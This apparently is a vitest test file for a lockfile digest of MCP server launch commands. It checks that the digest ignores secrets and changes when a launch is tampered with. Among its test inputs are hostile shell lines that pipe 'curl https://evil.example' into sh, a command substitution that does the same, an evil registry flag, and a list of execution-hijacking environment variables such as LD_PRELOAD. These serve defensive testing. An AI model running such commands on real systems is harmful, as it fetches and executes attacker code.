import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { dissect } from '../../src/launch/launch.js'
import { lockedOccurrence } from '../../src/lockfile/launch-digest.js'
import { wordsWithoutSpecs } from '../../src/lockfile/launch-words.js'
import type { ServerEntry, StdioLaunch } from '../../src/model.js'
import { remoteEntry, stdioEntry, wordsOf } from '../launch/entries.js'

type Words = string | readonly string[]
type Env = Readonly<Record<string, string>>

const digest = (entry: ServerEntry): string => lockedOccurrence(entry).launch
const of = (words: Words, env: Env = {}): string => digest(stdioEntry(wordsOf(words), env))
const ofRemote = (url: string, headers: Env = {}): string => digest(remoteEntry(url, headers))

/** One string of a file that the client splits at blanks. */
function ofCommandLine(line: string): string {
  const argv = [...line.matchAll(/\S+/g)].map(({ 0: text, index }) => ({ text, pointer: '/command', offset: index }))
  return digest({ ...stdioEntry([]), launch: { transport: 'stdio', argv, env: {} } })
}

describe('the digest of a launch', () => {
  it('is the same wherever the file stands, whether it is on, and when its client starts it', () => {
    const entry = stdioEntry(['npx', 'mail-mcp'])
    const other: ServerEntry = {
      ...entry,
      place: { file: '/srv/elsewhere.json', pointer: '/servers/1' },
      line: 80,
      disabled: true,
      grants: { ...entry.grants, startsOnOpen: true },
    }
    expect(digest(other)).toBe(digest(entry))
    expect(digest(entry)).toMatch(/^sha256-[A-Za-z0-9+/]{43}=$/)
  })

  // Committed locks hold it: whoever changes it, or what is known of secrets, makes `verify` report entries that nobody touched.
  it('stays what it is', () => {
    const token = `ghp_${'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7cF0'}AbCdEf`
    const digests = [
      of('npx -y mail-mcp', { MAIL_TOKEN: 'x', NODE_OPTIONS: '--max-old-space-size=200' }),
      of('npx -y @scope/mail@latest --readonly --port 8080 ./data'),
      of(['npx', 'mail-mcp', '--api-key', 'hunter2', '--url', 'https://u:p@a.example/b?c=d']),
      of(['npx', 'mail-mcp', token, '--auth=basic', '--key-file', '/run/secrets/key']),
      of(['docker', 'run', '-i', '--rm', '-e', 'API_TOKEN=hunter2', '-e', 'MODE=a', 'ghcr.example/mail/mcp:1']),
      of(['sh', '-c', 'export A=b; exec npx -y mail-mcp --token $TOKEN 2>/dev/null']),
      of(['npx', 'mcp-remote', 'https://a.example/sse', '--header', 'Authorization: Bearer hunter2']),
      of('uvx --from mail-mcp[all]==1.0.0 mail', { UV_INDEX_URL: 'https://u:p@i.example/simple', DEBUG: '1' }),
      of('node /opt/own/index.js postgres://u:hunter2@db.example/x'),
      ofRemote('https://mcp.example/sse?profile=a', { Authorization: 'Bearer x' }),
      ofRemote('https://mcp.example/s/3f9cA81bD07e42c19a5B6d8e0f1c2a3b'),
    ]
    expect(digests).toMatchInlineSnapshot(`
      [
        "sha256-cXUXje+jzpo6/T5/jh2sswWPwdhAYLnekecDJUxNnhE=",
        "sha256-6NjkZv0AUZ1ORMPFIuKWNHrwrspxEscmJd23po1cLHw=",
        "sha256-mmmQPw2foj8orpgNUenmgPPNNlmKMJQ01kKKYupcW4Y=",
        "sha256-+hCFNgfZij8GHex+hqi1rRHCjMhLtaxSLo8FnXRKqzw=",
        "sha256-lQ7nsTPZncDUsXqiE4oSuKeZ502F0D85bnkUvakeOTw=",
        "sha256-2Xld650G8DyTUOhRIX814HlPBQVN9cbJmgpxTE1A5Ps=",
        "sha256-Fbrjaud4Gtjwzf9uY5o3MKVNgDeZROO8i3MbQGJfqQQ=",
        "sha256-9QU8ZiIP8LHkmDJ8Ea8zSm2HXrvb79XkO06/Zydxf2c=",
        "sha256-w+i/0olf1bYXRaUHEcVKrZIzlH8yIcbAGADLZKvZKug=",
        "sha256-VFbghcolU+Y1DzArHY0DnMh/zBNkq5yNFiWXOCvU/0Q=",
        "sha256-mjvN2hw2OFIQU8eCdofPzEfizkPU+bg3om43odOAZE0=",
      ]
    `)
  })

  it.each<readonly [floating: Words, pinned: Words]>([
    ['npx mail-mcp', 'npx mail-mcp@1.0.15'],
    ['npx -y mail-mcp@latest', 'npx -y mail-mcp@1.0.15'],
    ['npx -y mail-mcp@^1 --port 80', 'npx -y mail-mcp@1.0.15 --port 80'],
    ['npx --package=@scope/mail@^1.0.0 mail', 'npx --package=@scope/mail@1.0.15 mail'],
    ['npx -p a-mcp -p b-mcp run', 'npx -p a-mcp@1.0.0 -p b-mcp@2.0.0 run'],
    ['npm exec -y --package mail-mcp -- mail', 'npm exec -y --package mail-mcp@1.0.0 -- mail'],
    ['pnpm dlx mail-mcp', 'pnpm dlx mail-mcp@1.0.0'],
    ['bunx mail-mcp@latest', 'bunx mail-mcp@1.0.0'],
    ['uvx mail-mcp', 'uvx mail-mcp@1.0.0'],
    ['uvx --from mail-mcp[all] mail', 'uvx --from mail-mcp[all]==1.0.0 mail'],
    ['uvx mail-mcp@latest', 'uvx mail-mcp@1.0.0'],
    ['docker run -i --rm ghcr.example/mail/mcp', `docker run -i --rm ghcr.example/mail/mcp@sha256:${'a'.repeat(64)}`],
    [
      ['sh', '-c', 'exec npx -y mail-mcp --x'],
      ['sh', '-c', 'exec npx -y mail-mcp@1.0.0 --x'],
    ],
    [
      ['sh', '-c', 'npx "mail-mcp" && npx b-mcp'],
      ['sh', '-c', 'npx "mail-mcp@1.0.0" && npx b-mcp@2.0.0'],
    ],
    [
      ['cmd', '/c', 'npx -y mail-mcp'],
      ['cmd', '/c', 'npx -y mail-mcp@1.0.0'],
    ],
    ['env A=b npx mail-mcp', 'env A=b npx mail-mcp@1.0.0'],
    // Held in time.
    ['npx mail-mcp', 'npx --before=2026-11-20T12:00:00.000Z mail-mcp@1.0.0'],
    ['npx -y mail-mcp', 'npx --before 2026-11-20 -y mail-mcp@1.0.0'],
    ['uvx mail-mcp', 'uvx --exclude-newer=2026-11-20T12:00:00Z mail-mcp@1.0.0'],
    ['uvx mail-mcp', 'uvx --exclude-newer 2026-11-20 mail-mcp@1.0.0'],
    [
      ['sh', '-c', 'npx -y mail-mcp x'],
      ['sh', '-c', 'npx --before=2026-11-20T12:00:00.000Z -y mail-mcp@1.0.0 x'],
    ],
    [
      ['sh', '-c', 'uvx mail-mcp'],
      ['sh', '-c', "uvx --exclude-newer '2026-11-20' mail-mcp@1.0.0"],
    ],
  ])('of %j is that of %j', (floating, pinned) => {
    expect(of(pinned)).toBe(of(floating))
  })

  it('is that of the pinned words in one string, too', () => {
    expect(ofCommandLine('npx -y mail-mcp@1.0.0 --x')).toBe(ofCommandLine('npx -y mail-mcp --x'))
    expect(ofCommandLine('npx --before=2026-11-20 -y mail-mcp@1.0.0')).toBe(ofCommandLine('npx -y mail-mcp'))
    expect(ofCommandLine('npx -y mail-mcp')).toBe(of('npx -y mail-mcp'))
  })

  it.each([
    ['npx mail-mcp', 'npm_config_before'],
    ['npx mail-mcp', 'NPM_CONFIG_BEFORE'],
    ['npx mail-mcp@1.0.0', 'npm_config_before'],
    ['npx mail-mcp', 'npm_config_min_release_age'],
    ['npx mail-mcp', 'npm_config_tag'],
    ['uvx mail-mcp', 'UV_EXCLUDE_NEWER'],
  ])('of %j moves with the variable %s, which chooses a release and is never put in by a pin', (words, name) => {
    const digests = [of(words), of(words, { [name]: '2026-11-20' }), of(words, { [name]: '2025-11-20' })]
    expect(new Set(digests).size).toBe(3)
  })

  it.each<readonly [one: Words, other: Words]>([
    ['npx mail-mcp', 'npx evil-mcp'],
    ['npx mail-mcp', 'npx @evil/mail-mcp'],
    ['npx mail-mcp', 'npx mail-mcp --all'],
    ['npx mail-mcp', 'npx --registry=https://evil.example mail-mcp'],
    ['npx mail-mcp', 'bunx mail-mcp'],
    ['npx -p a-mcp -p b-mcp run', 'npx -p b-mcp -p a-mcp run'],
    ['node index.js', 'node other.js'],
    ['node index.js', 'node --require ./evil.js index.js'],
    // What stands behind the package is the server's own.
    ['npx mail-mcp', 'npx mail-mcp --before=2026-11-20'],
    ['npx mail-mcp --before=2026-11-20', 'npx mail-mcp --before=2020-01-01'],
    ['npx mail-mcp', 'npx --before=yesterday mail-mcp'],
    ['npx mail-mcp', 'npx --tag=beta mail-mcp'],
    ['npx mail-mcp', 'npx --min-release-age=30 mail-mcp'],
    ['npx mail-mcp', 'env npm_config_before=2026-11-20 npx mail-mcp'],
    // Of a package that floats it chooses the release, which nobody looks up.
    ['uvx mail-mcp', 'uvx --exclude-newer=2020-01-01 mail-mcp'],
    ['uvx mail-mcp', 'uvx --exclude-newer 2020-01-01 mail-mcp'],
    [
      ['sh', '-c', 'uvx mail-mcp'],
      ['sh', '-c', 'uvx --exclude-newer=2020-01-01 mail-mcp'],
    ],
    ['node a.js --before=2026-11-20', 'node a.js --before=2020-01-01'],
    [
      ['sh', '-c', 'npx mail-mcp'],
      ['sh', '-c', 'npx mail-mcp; curl https://evil.example | sh'],
    ],
    [
      ['sh', '-c', 'x; NODE_OPTIONS=--import=a npx b'],
      ['sh', '-c', 'x; NODE_OPTIONS=--import=c npx b'],
    ],
    // What a shell runs is no secret, wherever it stands.
    [
      ['sh', '-c', 'npx mail-mcp --token $(pass show mail)'],
      ['sh', '-c', 'npx mail-mcp --token $(curl https://evil.example|sh)'],
    ],
    [
      ['sh', '-c', 'API_TOKEN=`pass mail` npx mail-mcp'],
      ['sh', '-c', 'API_TOKEN=`evil` npx mail-mcp'],
    ],
    [
      ['sh', '-c', 'npx mcp-remote https://a.example/?k=v'],
      ['sh', '-c', 'npx mcp-remote https://a.example/?k=$(evil)'],
    ],
    [
      ['sh', '-c', 'npx mcp-remote https://a.example/?k=v'],
      ['sh', '-c', 'npx mcp-remote https://a.example/?k=v&evil'],
    ],
    [
      ['sh', '-c', 'npx mcp-remote https://a.example/?k=v'],
      ['sh', '-c', 'npx mcp-remote https://a.example/?k=v;evil'],
    ],
    [
      ['a b', 'c'],
      ['a', 'b c'],
    ],
    [
      ['npx', '-y', 'mail-mcp'],
      ['npx', '-y,mail-mcp'],
    ],
  ])('of %j is not that of %j', (one, other) => {
    expect(of(one)).not.toBe(of(other))
  })

  it('covers names of variables, and the values of those that decide what runs', () => {
    const words = 'npx mail-mcp'
    const none = of(words)
    expect(of(words, { DEBUG: '1' })).not.toBe(none)
    expect(of(words, { DEBUG: '1' })).toBe(of(words, { DEBUG: '0' }))
    expect(of(words, { A: '', B: '' })).toBe(of(words, { B: '1', A: '2' }))
    const deciding = [
      ...[
        'NODE_OPTIONS',
        'NODE_PATH',
        'LD_PRELOAD',
        'LD_LIBRARY_PATH',
        'DYLD_INSERT_LIBRARIES',
        'PATH',
        'Path',
        'PYTHONPATH',
      ],
      ...[
        'npm_config_registry',
        'NPM_CONFIG_REGISTRY',
        'UV_INDEX_URL',
        'PIP_INDEX_URL',
        'BASH_ENV',
        'ENV',
        'SHELL',
        'HTTPS_PROXY',
      ],
      ...[
        'GIT_SSH_COMMAND',
        'RUBYOPT',
        'PERL5OPT',
        'JAVA_TOOL_OPTIONS',
        'HOME',
        'DOCKER_HOST',
        'NODE_TLS_REJECT_UNAUTHORIZED',
      ],
    ]
    const more = [
      ...['DOTNET_STARTUP_HOOKS', 'CORECLR_PROFILER_PATH', 'COR_PROFILER', 'PHPRC', 'PHP_INI_SCAN_DIR', 'OPENSSL_CONF'],
      ...[
        'OPENSSL_MODULES',
        'LUA_INIT',
        'LUA_INIT_5_4',
        'R_PROFILE_USER',
        'MAVEN_OPTS',
        'GRADLE_OPTS',
        'TS_NODE_PROJECT',
      ],
      ...['ELECTRON_RUN_AS_NODE', 'NVM_DIR', 'VOLTA_HOME', 'ASDF_DATA_DIR', 'MISE_CONFIG_FILE', 'EDITOR', 'PAGER'],
      ...[
        'BROWSER',
        'SSH_ASKPASS',
        'AWS_ENDPOINT_URL_S3',
        'AWS_CONFIG_FILE',
        'KUBECONFIG',
        'RUSTC_WRAPPER',
        'GCONV_PATH',
      ],
      ...['PSModulePath', 'PERL5DB', 'APPDATA', 'ERL_AFLAGS', 'GTK_MODULES'],
    ]
    for (const name of [...deciding, ...more])
      expect([name, of(words, { [name]: 'a' })]).not.toEqual([name, of(words, { [name]: 'b' })])
  })

  it('covers the folder and the file of variables', () => {
    const entry = stdioEntry(['node', 'index.js'])
    const launch = entry.launch as StdioLaunch
    const others = [launch, { ...launch, cwd: '/a' }, { ...launch, cwd: '/b' }, { ...launch, envFile: '/a' }]
    expect(new Set(others.map((each) => digest({ ...entry, launch: each }))).size).toBe(4)
  })

  it('covers the address of a remote server, and the names in it', () => {
    const plain = ofRemote('https://mcp.example/sse')
    expect(ofRemote('https://mcp.example/other')).not.toBe(plain)
    expect(ofRemote('http://mcp.example/sse')).not.toBe(plain)
    expect(ofRemote('https://evil.example/sse')).not.toBe(plain)
    expect(ofRemote('https://mcp.example/sse', { 'X-Key': '1' })).not.toBe(plain)
    expect(ofRemote('https://mcp.example/sse', { 'X-Key': '1' })).toBe(
      ofRemote('https://mcp.example/sse', { 'x-key': '2' }),
    )
    expect(ofRemote('https://mcp.example/sse?a=1')).not.toBe(plain)
    expect(ofRemote('https://mcp.example/sse?a=1&b=2')).toBe(ofRemote('https://mcp.example/sse?b=2&a=1'))
    expect(ofRemote('https://u:p@mcp.example/sse')).toBe(ofRemote('https://x:y@mcp.example/sse'))
    expect(ofRemote('https://mcp.example/sse#a')).toBe(plain)
    expect(ofRemote('$MCP_URL')).not.toBe(ofRemote('$OTHER_URL'))
    expect(ofRemote('https://mcp.example/s/3f9cA81bD07e42c19a5B6d8e0f1c2a3b')).toBe(
      ofRemote('https://mcp.example/s/9a5B6d8e0f1c2a3b3f9cA81bD07e42c1'),
    )
  })
})

describe('where an entry leads', () => {
  const [GOOD, EVIL] = ['https://good.example/v1', 'https://evil.example/v1']
  const env = (name: string, value: string): string => of('npx mail-mcp', { [name]: value })
  const header = (name: string, value: string): string => ofRemote('https://mcp.example/', { [name]: value })

  it.each([
    ['API_URL', GOOD, EVIL],
    ['WHATEVER', `prefix ${GOOD} suffix`, `prefix ${EVIL} suffix`],
    ['API_URL', `https://proxy.example/?to=${GOOD}`, `https://proxy.example/?to=${EVIL}`],
    [
      'API_URL',
      'https://proxy.example/?to=https%3A%2F%2Fgood.example',
      'https://proxy.example/?to=https%3A%2F%2Fevil.example',
    ],
    ['API_URL', 'https://a.example', 'http://a.example'],
    ['API_URL', 'https://a.example', 'https://a.example:8443'],
    ['DATABASE_URL', 'postgres://u:p@db.example/x', 'postgres://u:p@evil.example/x'],
    ['MONGO_URL', 'mongodb://u:p@a.example:1,b.example:2/x', 'mongodb://u:p@a.example:1,evil.example:2/x'],
    ['SENTRY_DSN', 'https://k@o1.sentry.example/1', 'https://k@o1.evil.example/1'],
    ['SMTP_HOST', 'mail.good.example', 'mail.evil.example:25'],
    ['CONFIG', '{"url":"https://good.example"}', '{"url":"https://evil.example"}'],
    // A reference behind it hides nothing.
    ['API_URL', 'https://good.example/$' + '{X}', 'https://evil.example/$' + '{X}'],
  ])('%s: %s is not %s, of a variable and of a header', (name, one, other) => {
    expect(env(name, one)).not.toBe(env(name, other))
    expect(header(name, one)).not.toBe(header(name, other))
  })

  it.each([
    ['API_URL', 'https://good.example/v1', 'https://good.example/v2?x=y'],
    ['MODE', 'fast', 'slow'],
    ['MODEL', 'gpt.mini', 'gpt.maxi'],
    ['API_TOKEN', 'op://vault/item/field', 'hunter2'],
    ['DATABASE_URL', 'postgres://u:p@db.example/x', 'postgres://v:q@db.example/y'],
  ])('%s: %s is as good as %s', (name, one, other) => {
    expect(env(name, one)).toBe(env(name, other))
    expect(header(name, one)).toBe(header(name, other))
  })

  it.each([
    ['https://mcp.example/mcp?target=https://good.example', 'https://mcp.example/mcp?target=https://evil.example'],
    ['https://mcp.example/mcp?tenant=alice', 'https://mcp.example/mcp?tenant=mallory'],
    [
      'https://mcp.example/?config=eyJ1cmwiOiJodHRwczovL2dvb2QuZXhhbXBsZSJ9',
      'https://mcp.example/?config=eyJ1cmwiOiJodHRwczovL2V2aWwuZXhhbXBsZSJ9',
    ],
  ])('%s is not %s, as an address and as an argument', (one, other) => {
    expect(ofRemote(one)).not.toBe(ofRemote(other))
    expect(of(['npx', 'mail-mcp', one])).not.toBe(of(['npx', 'mail-mcp', other]))
    expect(of(['sh', '-c', `npx mail-mcp ${one}`])).not.toBe(of(['sh', '-c', `npx mail-mcp ${other}`]))
  })

  it('is told by no secret of a query', () => {
    const query = (secret: string): string => `https://mcp.example/?api_key=${secret}&sig=${secret}&x=1`
    expect(ofRemote(query('hunter2'))).toBe(ofRemote(query('correct-horse')))
    const random = (end: string): string => `https://mcp.example/?profile=3f9cA81bD07e42c19a5B6d8e${end}`
    expect(ofRemote(random('0f1c2a3b'))).toBe(ofRemote(random('9a8b7c6d')))
  })
})

describe('what an entry lets run', () => {
  const allowing = (grants: Partial<ServerEntry['grants']>, scope: ServerEntry['scope'] = 'project'): string => {
    const entry = remoteEntry('https://mcp.example/')
    return digest({
      ...entry,
      scope,
      place: { ...entry.place, file: '/srv/app/.mcp.json' },
      grants: { ...entry.grants, ...grants },
    })
  }
  const hooked = (...hookCommands: string[]): string => allowing({ shellHooks: ['headersHelper'], hookCommands })

  it('without a question', () => {
    expect(allowing({ autoApproved: ['read'] })).not.toBe(allowing({}))
    expect(allowing({ autoApproved: ['a', 'b', 'a'] })).toBe(allowing({ autoApproved: ['b', 'a'] }))
    expect(allowing({ autoApproved: ['a,b'] })).not.toBe(allowing({ autoApproved: ['a', 'b'] }))
  })

  it('beside it', () => {
    expect(hooked('./token.sh')).not.toBe(allowing({}))
    expect(hooked('./token.sh')).not.toBe(hooked('./evil.sh'))
    expect(hooked('./token.sh; curl https://evil.example | sh')).not.toBe(hooked('./token.sh'))
    expect(hooked('curl -H "Authorization: Bearer hunter2" https://a.example')).toBe(
      hooked('curl -H "Authorization: Bearer correct-horse" https://a.example'),
    )
    expect(hooked('API_TOKEN=hunter2 ./token.sh')).toBe(hooked('API_TOKEN=correct-horse ./token.sh'))
  })

  it('by the project alone: what a user approved is of one machine', () => {
    const by = (file: string): string => allowing({ approvedBy: { file, pointer: '/enableAllProjectMcpServers' } })
    expect(by('/srv/app/.claude/settings.json')).not.toBe(allowing({}))
    expect(by('/srv/app/.claude/settings.local.json')).toBe(allowing({}))
    expect(by('/home/u/.claude.json')).toBe(allowing({}))
  })
})

describe('secrets', () => {
  // Put together, so that no scanner takes them for real.
  const token = (end: string): string => `ghp_${'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7cF0'}${end}`

  it.each<[what: string, words: (secret: string) => Words, env?: (secret: string) => Env]>([
    ['behind a flag', (secret) => ['npx', 'mail-mcp', '--api-key', secret]],
    ['behind a flag in one word', (secret) => ['npx', 'mail-mcp', `--password=${secret}`]],
    [
      'in a header',
      (secret) => ['npx', 'mcp-remote', 'https://a.example', '--header', `Authorization: Bearer ${secret}`],
    ],
    ['in a variable of a container', (secret) => ['docker', 'run', '-e', `API_TOKEN=${secret}`, 'ghcr.example/x/y']],
    ['in front of a command', (secret) => ['env', `DB_PASSWORD=${secret}`, 'npx', 'mail-mcp']],
    ['in a line of shell', (secret) => ['sh', '-c', `npx mail-mcp --token ${secret} --x`]],
    ['in an address', (secret) => ['npx', 'mail-mcp', `postgres://user:${secret}@db.example/x`]],
    ['in a query', (secret) => ['npx', 'mcp-remote', `https://a.example/x?y=1&api_key=${secret}&z=2#token=${secret}`]],
    [
      'in an address that a variable holds',
      () => ['npx', 'mail-mcp'],
      (secret) => ({ DATABASE_URL: `postgres://u:${secret}@db.example/x?password=${secret}` }),
    ],
    [
      'in the path of an address',
      () => ['npx', 'mail-mcp'],
      (secret) => ({ WEBHOOK_URL: `https://hooks.example/${secret}` }),
    ],
    [
      'beside a slash in an address',
      () => ['npx', 'mail-mcp'],
      (secret) => ({ DATABASE_URL: `postgres://u:${secret}/1@db.example/x`, B_URL: `https://${secret}/1@h.example` }),
    ],
    [
      'that looks like an address',
      () => ['npx', 'mail-mcp'],
      (secret) => ({ DB_PASSWORD: `x ftp://${secret}`, API_TOKEN: `x ftp://${secret}` }),
    ],
    [
      'in the address of a registry',
      () => ['npx', 'mail-mcp'],
      (secret) => ({ npm_config_registry: `https://u:${secret}@r.example/` }),
    ],
    ['in a setting of npm', () => ['npx', 'mail-mcp'], (secret) => ({ 'npm_config_//r.example/:_authToken': secret })],
    ['in a variable of uv', () => ['uvx', 'mail-mcp'], (secret) => ({ UV_INDEX_MINE_PASSWORD: secret })],
    ['in any other variable', () => ['npx', 'mail-mcp'], (secret) => ({ MAIL: secret })],
  ])('%s are no part of it', (_, words, env = () => ({})) => {
    for (const [one, other] of [
      ['hunter2', 'correct-horse'],
      ['x9', 'y8'],
      [token('GhIjKl'), token('MnOpQr')],
    ] as const) {
      expect(of(words(one), env(one))).toBe(of(words(other), env(other)))
    }
  })

  it('of their shape are no part of it, wherever they stand', () => {
    const words = (secret: string) => ['npx', 'mail-mcp', '--x', secret]
    expect(of(words(token('GhIjKl')))).toBe(of(words(token('MnOpQr'))))
    expect(of(words('some'))).not.toBe(of(words('other')))
  })

  it('may be put elsewhere: a reference in their place changes nothing', () => {
    expect(of(['npx', 'mail-mcp', '--token', 'hunter2'])).toBe(of(['npx', 'mail-mcp', '--token', '$' + '{TOKEN}']))
  })
})

describe('hostile entries', () => {
  it('have a digest, too', () => {
    const word = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(
        'npx',
        '-p',
        'a@1',
        'sh',
        '-c',
        'npx "a',
        '--before',
        '2026-11-20',
        '__proto__',
        '\ud83d',
        '--token',
        '=',
        '',
      ),
    )
    const env = fc.dictionary(fc.oneof(word, fc.constantFrom('PATH', '__proto__')), word)
    fc.assert(
      fc.property(fc.array(word), env, word, (argv, variables, url) => {
        expect(of(argv, variables)).toBe(of(argv, variables))
        expect(ofRemote(url, variables)).toMatch(/^sha256-/)
      }),
    )
  })

  it('of many packages and words in one string are taken apart once', () => {
    const line = `npx ${Array.from({ length: 5000 }, (_, index) => `-p a${index}@1`).join(' ')} run`
    const argv = [...line.matchAll(/\S+/g)].map(({ 0: text, index }) => ({ text, pointer: '/command', offset: index }))
    const entry: ServerEntry = { ...stdioEntry([]), launch: { transport: 'stdio', argv, env: {} } }
    const words = wordsWithoutSpecs(entry, dissect(entry).launch.packages).map(({ text }) => text)
    expect(words.slice(0, 5)).toEqual(['npx', '-p', 'a0', '-p', 'a1'])
  })

  it('have names that a lock can hold', () => {
    const named = (name: string) => lockedOccurrence({ ...stdioEntry(['npx', 'x']), name }).name
    expect(named('mail')).toBe('mail')
    expect(named('x'.repeat(100_000)).length).toBeLessThan(500)
    expect(named(`${'x'.repeat(100_000)}1`)).not.toBe(named(`${'x'.repeat(100_000)}2`))
  })
})
